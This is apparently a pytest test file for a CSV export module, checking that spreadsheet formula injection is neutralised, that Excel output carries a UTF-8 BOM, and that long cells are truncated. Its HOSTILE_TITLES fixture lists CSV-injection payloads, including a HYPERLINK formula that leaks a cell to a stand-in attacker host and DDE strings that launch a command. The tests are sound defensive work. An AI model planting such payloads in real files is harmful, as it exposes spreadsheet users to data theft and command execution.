"""CSV export for spreadsheets: no cell runs as a formula, Excel reads the file as UTF-8."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from db.queries import ExportRow
from migwatch.spreadsheet import COLUMNS, EXCEL_MAX_CELL_CHARS, neutralise_cell, write_csv

HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"IOM budget")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(\"https://evil.example/\")",
]


def article(title: str, *, text: str = "本文", themes: tuple[str, ...] = ()) -> ExportRow:
    return ExportRow(
        id=1, canonical_url="https://news.example/a1", title=title, text=text, language="ja",
        author=None, published_at=datetime(2026, 11, 25, 10, 30, tzinfo=UTC),
        first_seen_at=datetime(2026, 11, 25, 11, 0, tzinfo=UTC), source_key="wire-ja",
        sighting_keys=("wire-ja",), themes=themes,
    )


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_a_cell_that_would_start_a_formula_is_prefixed_with_an_apostrophe(title: str) -> None:
    out = io.StringIO()
    write_csv(out, [article(title)], {}, for_excel=False)
    (row,) = read_back(out.getvalue())
    assert row["title"] == "'" + title


def test_ordinary_cells_are_left_as_they_are() -> None:
    for value in ("IOM cuts programmes", "国際移住機関の予算", "3 = three", "", "'quoted"):
        assert neutralise_cell(value) == value


def test_every_column_of_a_row_is_neutralised() -> None:
    row = ExportRow(
        id=1, canonical_url=None, title="t", text="=cmd", language=None, author="@someone",
        published_at=None, first_seen_at=datetime(2026, 11, 25, tzinfo=UTC),
        source_key="s", sighting_keys=(), themes=(),
    )
    out = io.StringIO()
    write_csv(out, [row], {}, for_excel=False)
    (back,) = read_back(out.getvalue())
    assert back["text"] == "'=cmd" and back["author"] == "'@someone"


def test_excel_mode_starts_with_a_utf8_bom_and_keeps_japanese() -> None:
    out = io.StringIO()
    write_csv(out, [article("外国人労働者の受け入れ拡大")], {}, for_excel=True)
    raw = out.getvalue().encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf")
    (row,) = read_back(raw.decode("utf-8"))
    assert row["title"] == "外国人労働者の受け入れ拡大"
    plain = io.StringIO()
    write_csv(plain, [article("x")], {}, for_excel=False)
    assert not plain.getvalue().startswith("\ufeff")


def test_excel_mode_cuts_cells_to_what_excel_keeps() -> None:
    out = io.StringIO()
    write_csv(out, [article("t", text="あ" * (EXCEL_MAX_CELL_CHARS + 500))], {}, for_excel=True)
    (row,) = read_back(out.getvalue())
    assert len(row["text"]) == EXCEL_MAX_CELL_CHARS


def test_theme_labels_stand_beside_the_ids() -> None:
    out = io.StringIO()
    labels = {"iom": "国際移住機関", "funding": "資金・拠出"}
    write_csv(out, [article("t", themes=("iom", "funding", "gone"))], labels, for_excel=False)
    header, *_ = out.getvalue().splitlines()
    assert next(csv.reader([header])) == list(COLUMNS)
    (row,) = read_back(out.getvalue())
    assert row["themes"] == "iom funding gone"
    assert row["theme_labels"] == "国際移住機関 / 資金・拠出 / gone"
